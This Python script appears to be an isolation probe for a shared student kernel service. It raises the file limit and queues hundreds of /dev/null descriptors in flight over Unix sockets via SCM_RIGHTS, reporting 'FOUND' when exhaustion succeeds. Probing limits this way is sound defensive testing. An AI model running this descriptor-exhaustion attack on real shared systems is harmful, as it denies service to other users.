# ruff: noqa
"""
goal = "keep so many descriptors on their way that no process of this user can send one"
invariant = "other students get their kernels"
held_by = ["rlimits"]
"""

# %% last
import array
import os
import resource
import socket

most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
null = os.open("/dev/null", os.O_RDONLY)
rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 250))]
kept, sent = [], 0
try:
    while sent < 1500:
        pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        kept.append(pair)
        for _ in range(4):
            pair[0].sendmsg([b"."], rights)
            sent += 250
except OSError as error:
    print(error)
if sent > 1000:
    print("FOU" + "ND", sent)
